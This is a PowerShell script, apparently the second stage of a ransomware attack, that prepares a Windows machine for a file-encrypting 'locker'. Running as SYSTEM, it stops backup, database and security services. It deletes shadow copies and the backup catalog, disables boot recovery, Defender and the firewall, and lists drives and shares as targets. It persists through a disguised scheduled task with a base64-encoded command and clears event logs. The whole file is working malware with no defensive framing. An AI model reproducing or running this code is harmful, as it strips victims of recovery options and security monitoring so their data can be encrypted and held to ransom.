# stage2 - environment prep before the locker runs
# executed by the loader as SYSTEM

$ErrorActionPreference = 'SilentlyContinue'
$work = 'C:\ProgramData\WinSxSCache'
New-Item -ItemType Directory -Path $work -Force | Out-Null

function Stop-Blockers {
    $svc = @('MSSQLSERVER', 'SQLWriter', 'MSExchangeIS', 'VeeamBackupSvc', 'BackupExecJobEngine', 'sophos*', 'WinDefend')
    foreach ($s in $svc) {
        Get-Service -Name $s | Stop-Service -Force
        Get-Service -Name $s | Set-Service -StartupType Disabled
    }
    $procs = 'sqlservr', 'oracle', 'outlook', 'winword', 'excel', 'thunderbird', 'firefox'
    foreach ($p in $procs) {
        Get-Process -Name $p | Stop-Process -Force
    }
}

function Remove-Recovery {
    vssadmin.exe delete shadows /all /quiet
    Get-CimInstance Win32_ShadowCopy | Remove-CimInstance
    bcdedit /set '{default}' recoveryenabled no
    bcdedit /set '{default}' bootstatuspolicy ignoreallfailures
    wbadmin delete catalog -quiet
    Disable-ComputerRestore -Drive 'C:\'
}

function Disable-Defences {
    Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
    Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2
    Add-MpPreference -ExclusionPath $work
    New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWord -Force
    netsh advfirewall set allprofiles state off
}

function Clear-Logs {
    foreach ($l in 'Security', 'System', 'Application', 'Windows PowerShell') {
        wevtutil.exe cl $l
    }
    Clear-EventLog -LogName Application, System
}

function Get-Targets {
    $drives = Get-PSDrive -PSProvider FileSystem | ? { $_.Free -ne $null }
    $shares = net view \\localhost 2>$null | Select-String 'Disk' | % { ($_ -split '\s+')[0] }
    [pscustomobject]@{
        Drives = $drives.Root
        Shares = $shares
    }
}

Stop-Blockers
Remove-Recovery
Disable-Defences
$targets = Get-Targets
$targets | ConvertTo-Json | Set-Content "$work\targets.json"

# hand over to the locker, relaunched at every boot until finished
$locker = "$work\svchost_.exe"
$cmd = 'Start-Process -FilePath "C:\ProgramData\WinSxSCache\svchost_.exe" -ArgumentList "--targets C:\ProgramData\WinSxSCache\targets.json" -WindowStyle Hidden'
$enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd))
schtasks /create /tn 'Microsoft\Windows\WinSxS\Cache' /tr "powershell.exe -w hidden -enc $enc" /sc onstart /ru SYSTEM /f
Start-Process -FilePath $locker -ArgumentList "--targets $work\targets.json" -WindowStyle Hidden

Clear-Logs
